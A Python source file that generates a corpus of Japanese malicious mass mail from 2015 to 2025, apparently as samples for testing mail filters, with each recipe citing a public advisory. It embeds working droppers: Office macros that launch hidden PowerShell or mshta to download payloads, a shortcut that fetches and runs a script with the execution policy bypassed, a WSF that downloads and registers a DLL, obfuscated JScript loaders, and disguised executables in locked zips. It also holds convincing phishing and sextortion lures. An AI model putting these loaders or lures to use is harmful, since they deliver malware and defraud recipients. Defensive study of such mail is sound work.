"""Mass mail in Japanese, 2015 to 2025: copied notices, business words, threads taken from other mailboxes."""
from held.envelope import zipped
from kit import Pe, docs, icons, lnk, office, onenote
from recipe import Recipe, auth

LOADER_VBA = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim q As String, w As Object
    q = StrReverse("exe.llehsrewop") & " -w hidden -c " & Chr(34) & "iwr http://dl.example.invalid/wp/a1 -OutFile $env:TEMP\\k.dll" & Chr(34)
    Set w = GetObject("winmgmts:Win32_Process")
    w.Create q, Null, Null, 0
End Sub
"""
BILL_VBA = """Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
    Dim s, i
    For Each i In Array(109, 115, 104, 116, 97)
        s = s & Chr(i)
    Next
    If Application.International(xlCountrySetting) = 81 Then CreateObject("WScript.Shell").Run s & " http://pic.example.invalid/uu.hta", 0
End Sub
"""


def dressed(stamp=0x57500000, accent=(43, 87, 154), **strings):
    p = Pe(stamp=stamp).icon(icons.document(accent=accent))
    if strings:
        p.version(**strings)
    p.data = docs.noise(stamp & 0xFFF) + bytes(64)
    return p.bytes()


def caller():
    """A shortcut that hands a hidden command to PowerShell."""
    return lnk("-NoP -W Hidden -c \"&{$p=$env:TEMP+'\\WGzfyE.ps1';iwr http://lnk.example.invalid/r -OutFile $p;powershell -ep bypass $p}\"",
               "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", icon="C:\\Windows\\System32\\shell32.dll", icon_index=1, show=7,
               machine="desktop-k1u7")


WSF = ("<job id=\"a\"><script language=\"VBScript\">\r\nOn Error Resume Next\r\n"
       "Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nh.Open \"GET\", \"https://one.example.invalid/wp-content/x/\", False\r\nh.Send\r\n"
       "Set s = CreateObject(\"ADODB.Stream\")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile \"C:\\Users\\Public\\rad5E.dll\", 2\r\n"
       "CreateObject(\"WScript.Shell\").Run \"regsvr32 /s C:\\Users\\Public\\rad5E.dll\", 0\r\n</script></job>\r\n")

RECIPES = [
    Recipe("h-parcel-copied", "mass", "J-CRAT, activity report of the first half of fiscal 2016, 2 (1); news of the notices of 2016-06-29 to 07 (Yamato's own warning)",
           "A carrier's notice copied word by word, its real domain in From; a program in a zip.",
           "宅急便お届けのお知らせ", "mail@kuronekoyamato.co.jp", name="ヤマト運輸株式会社", hard=True, twin="h-parcel-genuine", to="keiri@example.ac.jp",
           date="Thu, 30 Jun 2016 09:51:17 +0900", message_id="<E0C4A9D1.5B0F773C@kuronekoyamato.co.jp>",
           body="お客様\n\nクロネコヤマトよりお荷物お届けについてのお知らせです。\n\n下記のお荷物を本日お届け予定でしたが、宛名を確認できず持ち帰りました。\n\n"
                "■お届け予定日時\n 6月30日 時間帯希望なし\n■品名 衣類\n■商品名 衣類\n■伝票番号 3972-7730-1154\n\n"
                "お届け先のご確認は添付の明細をご覧ください。\n\n※このメールは送信専用です。\nヤマト運輸株式会社\n",
           headers=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("Return-Path", "<mail@kuronekoyamato.co.jp>"), auth("softfail", "none", "fail", "kuronekoyamato.co.jp")],
           client=("host-78-131.dyn.isp.example", "203.0.113.131"),
           attach=[("[397277301154].zip", zipped(("[397277301154].exe", lambda: dressed(0x5774A000, (200, 40, 40)))), "application/zip")]),
    Recipe("h-bank-locked", "mass", "J-CRAT, activity report of the first half of fiscal 2016, 2 (1), foot: Japanese mass mail mostly has locked zips with a program; notices of a bank, 2016",
           "A notice of a transfer as the bank writes it; the program is in a zip with the word told.",
           "振込受付完了のお知らせ", "mail_info@smbc.co.jp", name="三井住友銀行", twin="h-supplier-locked", to="keiri@example.co.jp",
           date="Wed, 20 Jul 2016 11:08:52 +0900", message_id="<201607200208.u6K28q@smbc.co.jp>",
           body="三井住友銀行より、振込受付完了についてお知らせします。\n\n取引種類:振込\n受付番号:0720-118846\n受付日時:2016年7月20日 10時57分\n\n"
                "お取引の明細は添付ファイルでご確認ください。\n{password}\n本メールにお心当たりのない場合は、お取引店までご連絡ください。\n",
           password_line="明細の閲覧用パスワード:118846",
           headers=[("X-Mailer", "Foxmail 6, 15, 201, 22 [cn]"), ("Return-Path", "<wkpbd@mailhost.test>"), auth("fail", "none", "none", "smbc.co.jp")],
           client=("unknown", "203.0.113.9"),
           attach=[("お取引明細.zip", zipped(("お取引明細.exe", lambda: dressed(0x578E0000, (20, 110, 60))), password="118846"), "application/zip")]),
    Recipe("h-post-translated", "mass", "news of 2015-12 to 2016-03 on mail in the name of Japan Post from Russian mailboxes (Rovnix); IIJ and Asahi, 2016",
           "A translated letter of the post office from a Russian mailbox; a program in a zip.",
           "小包の配達 番号4471902388", "sbvoronin71@rambler.ru", name="日本郵政", to="soumu@example.ac.jp", charset="utf-8",
           date="Tue, 16 Feb 2016 04:12:38 +0300", message_id="<1455585158.48112@rambler.ru>",
           body="拝啓\n\n配達員が注文番号4471902388の荷物を配達するためあなたへ電話で連絡しましたが、つながりませんでした。\n"
                "従ってご注文の品はターミナルに返送されます。ご注文登録時に入力していただいた電話番号に誤りがあったことが分かりました。\n"
                "このメールに添付されている委託運送状を印刷して、最寄りの日本郵政取り扱い郵便局までお問い合わせください。\n\n敬具\n森田 雄介\n日本郵政ジャパン\n",
           headers=[("X-Mailer", "Ramblermail v6"), ("X-Priority", "3"), auth("pass", "pass", "none", "rambler.ru")], client=("mx-out13.rambler.example", "198.51.100.13"),
           attach=[("委託運送状_4471902388.zip", zipped(("委託運送状.exe", lambda: dressed(0x56C26000, (220, 60, 30))), charset="utf-8"), "application/zip")]),
    Recipe("h-cut-staff", "mass", "Tokyo University of Science, notice of 2016-01-18: mail without a subject, 定員削減の命令書",
           "No subject, two lines on a cut of staff; a zip with a program.", "", "k-sugano@softbank.jp", twin="h-grant-notice", to="jinji@example.ac.jp",
           charset="utf-8", date="Mon, 18 Jan 2016 10:37:25 +0900", message_id="<60E1B0B95C74.569C41F5@softbank.jp>",
           body="お疲れ様です。\n\n人事課に提出した命令書をお送りします。添付資料をご参照ください。\n\n以上、よろしくお願いします。\n",
           headers=[("X-Mailer", "Microsoft Windows Live Mail 15.4.3502.922"), auth("fail", "none", "none", "softbank.jp")], client=("203-0-113-56.pppoe.example", "203.0.113.56"),
           attach=[("定員削減の命令書_418.zip", zipped(("定員削減の命令書_418.exe", lambda: dressed(0x569B0000)), charset="utf-8"), "application/zip")]),
    Recipe("h-travel-booked", "mass", "travelvision.jp and JC3, 2017-05: mail in the name of a booking site, 予約完了",
           "A booking that was never made; a script in a zip.", "予約完了[例示トラベル]", "yoyaku@reiji-travel.example", name="例示トラベル", twin="h-eticket-partner",
           to="eigyo@example.co.jp", date="Wed, 17 May 2017 08:29:04 +0900", message_id="<8af01c2d6a7f$4e11c0b2@reiji-travel.example>",
           body="この度は例示トラベルをご利用いただき、誠にありがとうございます。\n下記の内容で予約が完了いたしました。\n\n"
                "予約番号:RT17-0517-3391\nご宿泊日:2017年5月27日から1泊\n部屋:和室10畳(禁煙)\n人数:大人2名\n料金合計:38,400円\n\n"
                "予約内容の詳細とキャンセル規定は添付をご確認ください。\n",
           headers=[("X-Mailer", "PHPMailer 5.2.9"), ("Return-Path", "<www-data@vps441.test>"), auth("none", "none", "none", "reiji-travel.example")], client=("vps441.test", "203.0.113.241"),
           attach=[("予約(3391).zip", zipped(("予約(3391).js", lambda: ("var u='http://dl.example.invalid/yoyaku.php',o=[];" + "".join(
               "o[%d]='%s';" % (i, c) for i, c in enumerate(["WScr", "ipt.S", "hell", "MSXML2", ".XMLH", "TTP", "ADODB.", "Stream", "Save", "ToFile"] * 9)) +
               "var s=new ActiveXObject(o[0]+o[1]+o[2]);s.Run('cmd /c start '+u,0);").encode())), "application/zip")]),
    Recipe("h-query-sheet", "mass", "Trend Micro and JPCERT/CC, 2018-08: web query files (.iqy) in Japanese mail, Cutwail",
           "Business words of one line; a web query that fetches a command.", "ご確認ください", "yamauchi_t2281@yahoo.co.jp", name="山内",
           to="eigyo@example.co.jp", date="Mon, 06 Aug 2018 13:17:33 +0900", message_id="<5B67CB0D.8050207@yahoo.co.jp>",
           body="お世話になります。\n\n先日の写真添付の件、データをお送りします。\nご確認をお願いいたします。\n\n山内\n",
           headers=[("User-Agent", "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Thunderbird/52.4.0"), auth("softfail", "none", "none", "yahoo.co.jp")],
           client=("adsl-198-51-100-77.isp.example", "198.51.100.77"), attach=[("8月6日写真.iqy", b"WEB\r\n1\r\nhttp://jiglid.example.invalid/excel\r\n\r\nSelection=EntirePage\r\nFormatting=None\r\n")]),
    Recipe("h-love-face", "mass", "JPCERT/CC and IPA, 2019-01: mail of faces and names of celebrities with scripts (Phorpiex, GandCrab)",
           "A name as the subject, a face as the text; a script in a zip.", ":D", "Haru94@4411.example", name="Haru", to="shomu@example.ac.jp", charset="us-ascii",
           date="Tue, 29 Jan 2019 02:44:51 +0900", message_id="<000701d4b753$9a2b$3c1f@4411.example>", body=";)\n",
           headers=[("X-Mailer", "Microsoft Outlook Express 6.00.2600.0000"), auth("none", "none", "none", "4411.example")], client=("unknown", "203.0.113.99"),
           attach=[("PIC0441092019JPG.zip", zipped(("PIC0441092019JPG.js", b"var a=new ActiveXObject('WScript.Shell');a.Run('PowerShell -WindowStyle Hidden "
                                                  b"(New-Object Net.WebClient).DownloadFile(\\'http://192.0.2.66/krabler\\',$env:TEMP+\\'\\\\92.scr\\')',0);//" + b"x" * 400)), "application/zip")]),
    Recipe("h-emotet-bonus", "mass", "JPCERT/CC, alerts on Emotet of 2019-11 to 2020-02; IPA, Emotet, 2019-12: mail on bonuses",
           "A line on the bonus from a foreign mailbox with a Japanese name; a document with a macro.", "賞与支払届", "compras@ferreteria.example", name="大西 恵子",
           twin="h-lodeinfo-cv", to="jinji@example.co.jp", charset="utf-8", date="Wed, 11 Dec 2019 09:40:12 -0600", message_id="<7421906337.20191211@ferreteria.example>",
           body="お世話になっております。\n\n賞与支払届を添付いたします。\nご確認のほど、よろしくお願いします。\n\n大西 恵子\nONISHI@EXAMPLE.CO.JP\n",
           headers=[auth("pass", "none", "none", "ferreteria.example")], client=("mail.ferreteria.example", "198.51.100.156"),
           attach=[("賞与支払届 12-11.doc", lambda: office.doc(LOADER_VBA, text="コンテンツの有効化"), "application/msword")]),
    Recipe("h-emotet-locked", "mass", "IPA and JPCERT/CC, 2020-09: Emotet in locked zips with the word in the letter, threads of other mailboxes",
           "An answer in a thread that was really had; a document with a macro in a locked zip.", "Re: 9月度お打ち合わせの件", "info@clinica-dental.example",
           name="吉川 (例示卸センター)", hard=True, twin="h-flagpro-quote", to="eigyo@example.co.jp", charset="iso-2022-jp",
           date="Thu, 03 Sep 2020 08:12:29 +0900", message_id="<20200903081229.91E7C4402B1A6D@clinica-dental.example>",
           body="お世話になっております。\n\n添付ファイルをご確認ください。\n{password}\n例示卸センター 吉川\n\n"
                "> 例示商事の高田です。\n> 9月度のお打ち合わせですが、10日(木)の14時でいかがでしょうか。\n> 会議室は2階を押さえてあります。\n",
           password_line="添付ファイル名:打ち合わせ資料_0903.zip\n解凍パスワード:Kq7Lm2",
           headers=[("In-Reply-To", "<5F4F2A10.3000906@example.co.jp>"), ("References", "<5F4F2A10.3000906@example.co.jp>"), auth("pass", "none", "none", "clinica-dental.example")],
           client=("srv77.hosting.example", "198.51.100.177"),
           attach=[("打ち合わせ資料_0903.zip", zipped(("打ち合わせ資料_0903.doc", lambda: office.doc(LOADER_VBA, text="編集を有効にする")), password="Kq7Lm2"), "application/zip")]),
    Recipe("h-emotet-shortcut", "mass", "IPA and JPCERT/CC, 2022-04: Emotet with shortcuts in locked zips",
           "A line with a name that the receiver knows; a shortcut in a locked zip.", "RE: 請求書", "r.castillo@autolavado.example", name="例示 太郎", twin="h-password-shortcut",
           to="keiri@example.co.jp", charset="utf-8", date="Tue, 26 Apr 2022 15:20:47 +0900", message_id="<3307716942.202204261520@autolavado.example>",
           body="ご確認ください。\n\n{password}\n例示 太郎\nexample.co.jp\nTEL 0155-00-3000\n", password_line="パスワード 8812",
           headers=[auth("pass", "pass", "none", "autolavado.example")], client=("smtp.autolavado.example", "198.51.100.232"),
           attach=[("請求書 2022-04-26_1520.zip", zipped(("請求書 2022-04-26_1520.doc.lnk", caller), password="8812"), "application/zip")]),
    Recipe("h-emotet-one", "mass", "JPCERT/CC and IPA, 2023-03-16: Emotet in OneNote sections",
           "A short line; the notebook hides a script behind its picture of a button.", "請求書送付のお願い", "atendimento@padaria.example", name="経理部 坂本", twin="h-minutes-one",
           to="keiri@example.co.jp", charset="utf-8", date="Thu, 16 Mar 2023 23:02:10 +0900", message_id="<08812.230316@padaria.example>",
           body="いつもお世話になっております。\n\n請求書を送付いたしますので、ご確認をお願いいたします。\n\n坂本\n",
           headers=[auth("pass", "none", "none", "padaria.example")], client=("mail.padaria.example", "198.51.100.19"),
           attach=[("請求書_0316.one", lambda: onenote([("button.png", b"\x89PNG\r\n\x1a\n" + docs.noise(900)), ("click.wsf", WSF.encode())]))]),
    Recipe("h-bill-macros", "mass", "JC3, mail with viruses (jc3.or.jp/topics/virusmail.html), 2017-06: 請求書, three lines, sheets with macros",
           "Three lines and a surname; a sheet whose macro works in Japan only.", "請求書を添付いたしましたので、ご査収ください", "tachibana@kensetsu-reiji.example", name="橘",
           twin="h-invoice-macros", to="keiri@example.co.jp", date="Fri, 02 Jun 2017 11:20:46 +0900", message_id="<5930CD2E.1080009@kensetsu-reiji.example>",
           body="いつもお世話になっております。\n\n5月分の請求書を添付いたします。\nご査収のほどよろしくお願いいたします。\n\n橘\n",
           headers=[("X-Mailer", "Microsoft Outlook 15.0"), auth("none", "none", "none", "kensetsu-reiji.example")], client=("cpe-203-0-113-150.isp.example", "203.0.113.150"),
           attach=[("御請求書.xls", lambda: office.xls(BILL_VBA, text="請求書"), "application/vnd.ms-excel")]),
    Recipe("h-card-phish", "mass", "Council of Anti-Phishing Japan, alerts of 2020 to 2021 on banks' and cards' names",
           "A card's warning in HTML; the link shows the real name and leads elsewhere.", "【重要】三井住友カード ご利用確認のお願い", "admin@vpass-info.test",
           name="三井住友カード", twin="h-card-signed", to="keiri@example.co.jp", charset="utf-8", date="Mon, 15 Mar 2021 05:31:44 +0800",
           message_id="<20210315053144667802@vpass-info.test>", body="",
           html="<html><body style=\"font-family:'MS PGothic',微软雅黑\"><p>いつも三井住友カードをご利用いただきありがとうございます。</p>"
                "<p>このたび、ご本人様のご利用かどうかを確認させていただきたいお取引がありましたので、誠に勝手ながら、カードのご利用を一部制限させていただき、ご連絡いたしました。</p>"
                "<p><a href=\"http://smbc-card.vpass-info.test/mem/index.php?u=keiri\">https://www.smbc-card.com/mem/index.jsp</a></p>"
                "<p>24時間以内にご確認がない場合、ご利用を停止いたします。ご不便とご心配をおかけしまして誠に申し訳ございません。</p><p>三井住友カード株式会社</p></body></html>\n",
           headers=[("X-Mailer", "Foxmail 6, 13, 102, 15 [cn]"), ("Return-Path", "<admin@vpass-info.test>"), auth("softfail", "none", "none", "vpass-info.test")],
           client=("vpass-info.test", "203.0.113.170")),
    Recipe("h-extortion", "mass", "JPCERT/CC and IPA, 2018-09: extortion for bitcoins in Japanese, in the receiver's own name",
           "A threat in translated Japanese, sent in the receiver's own name; no file, no link.", "あなたの秘密の生活", "eigyo@example.co.jp", hard=True, to="eigyo@example.co.jp",
           charset="utf-8", date="Wed, 19 Sep 2018 21:09:13 +0900", message_id="<4C0F2D7E1A90@dslb-198-51-100-181.isp.example>",
           body="こんにちは!\n\nあなたは私を知りませんが、私はあなたをよく知っています。このメールはあなたのアカウントから送られたことに気づきましたか?\n"
                "はい、私はあなたのデバイスに完全にアクセスできます。数か月前にアダルトサイトを訪れたとき、私のトロイの木馬に感染しました。\n"
                "カメラであなたの録画をしました。連絡先もすべてコピーしました。\n\n"
                "この動画を消したければ、私に650ドルをビットコインで送金してください。\n私のBTCウォレット:1Fxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
                "このメールを読んでから48時間があります。支払わなければ、動画をすべての連絡先に送ります。\n\n頑張ってください。\n",
           headers=[auth("fail", "none", "fail", "example.co.jp")], client=("dslb-198-51-100-181.isp.example", "198.51.100.181")),
    Recipe("h-copyright-link", "mass", "Check Point Research, 2024 (CopyRhadamantys); Cisco Talos, 2024-10; notices in many languages from free mailboxes, also in Japanese",
           "A lawyer's claim on pictures from a new free mailbox; the evidence lies behind a link.", "著作権侵害に関する通知書(株式会社例示商事 Webサイト)", "legal.takeda.ip2024@gmail.com",
           name="竹田法律事務所 知的財産部", hard=True, alone=False, to="info@example.co.jp", charset="utf-8", date="Tue, 22 Oct 2024 10:14:39 +0000",
           message_id="<CAJx7v0Q1f2hD=vT8k=3bW@mail.gmail.com>",
           body="例示商事株式会社 ご担当者様\n\n当事務所は、写真素材の権利者より委任を受け、貴社に対し以下のとおり通知いたします。\n\n"
                "貴社のWebサイトおよびSNSにおいて、権利者の許諾なく画像および動画が使用されていることを確認いたしました。\n"
                "使用箇所の一覧と証拠資料は、以下よりご確認ください。\n\nhttps://www.dropbox.com/scl/fi/0k2e/evidence.zip?dl=1\nパスワード:0928\n\n"
                "本通知の受領後7日以内に該当する内容を削除されない場合、法的措置を検討いたします。\n\n竹田法律事務所 知的財産部\n",
           headers=[("Return-Path", "<legal.takeda.ip2024@gmail.com>"), auth("pass", "pass", "pass", "gmail.com")], client=("mail-lj1-f171.google.com", "203.0.113.171")),
]
